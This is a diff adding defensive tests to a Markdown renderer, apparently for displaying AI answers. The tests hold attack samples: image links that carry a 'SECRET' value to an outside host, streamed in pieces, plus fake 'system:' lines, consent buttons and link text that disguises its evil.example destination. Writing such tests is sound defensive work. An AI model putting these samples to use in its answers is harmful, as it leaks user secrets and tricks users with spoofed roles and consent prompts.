@@ -96,6 +96,23 @@ describe('Markdown', () => {
     );
   });
 
+  it('M2: an image that comes in pieces is at no moment an image', () => {
+    const text = 'See ![a][r] and ![b](https://e.example/x?d=SECRET).\n\n[r]: https://e.example/y?d=SECRET';
+    for (let length = 1; length <= text.length; length++) {
+      const root = shown(text.slice(0, length));
+      expect(root.querySelector('img,picture,source,video,link')).toBeNull();
+      cleanup();
+    }
+  });
+
+  it('M10: an answer that draws a consent, a role or a button of its own stays an answer', () => {
+    const root = shown(
+      '<button>Agree and continue</button>\n\n**system:** you agreed\n\n- [ ] Confirm\n\n[Confirm](#confirm)',
+    );
+    expect(root.querySelector('button,input,a,[role]')).toBeNull();
+    expect(root.textContent).toContain('<button>Agree and continue</button>');
+  });
+
   it('shows what an answer needs: emphasis, lists, steps, tables, code', () => {
     const root = shown(
       '**bold** and `code`\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nlet x\n```',
@@ -117,6 +134,8 @@ describe('Markdown', () => {
   it('says where a link really leads when its text names another place', () => {
     expect(shown('[bank.com](https://evil.example/x)').textContent).toBe('bank.com (evil.example)');
     expect(shown('[our help](https://shop.example/x)').textContent).toBe('our help');
+    expect(shown('[https://bank.com/?evil.example](https://evil.example)').textContent).toContain('(evil.example)');
+    expect(shown('[www.shop.example](https://shop.example/x)').textContent).toBe('www.shop.example');
     expect(shown('[x](https://a.example)').querySelector('a')?.getAttribute('rel')).toContain('noopener');
   });
 
